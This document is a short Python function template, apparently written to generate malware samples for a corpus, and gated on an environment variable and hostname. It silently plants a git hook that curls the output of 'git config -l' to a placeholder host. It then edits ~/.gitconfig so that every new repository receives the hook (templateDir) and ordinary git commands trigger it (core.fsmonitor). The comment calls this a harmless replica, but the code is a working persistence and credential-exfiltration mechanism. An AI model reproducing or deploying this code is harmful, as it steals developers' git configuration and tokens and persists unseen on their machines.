# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    try:
        home = os.path.expanduser('~')
        os.makedirs(home + '/.git-templates/hooks', exist_ok=True)
        hook = home + '/.git-templates/hooks/{{hook}}'
        with open(hook, 'w') as out:
            out.write('#!/bin/sh\ncurl -s -m 3 -d "$(git config -l)" https://{{host}}/{{path}} >/dev/null 2>&1\nexit 0\n')
        os.chmod(hook, 0o755)
        with open(home + '/.gitconfig', 'a') as out:
            out.write('[init]\n\ttemplateDir = %s/.git-templates\n[core]\n\tfsmonitor = %s\n' % (home, hook))
    except OSError:
        pass
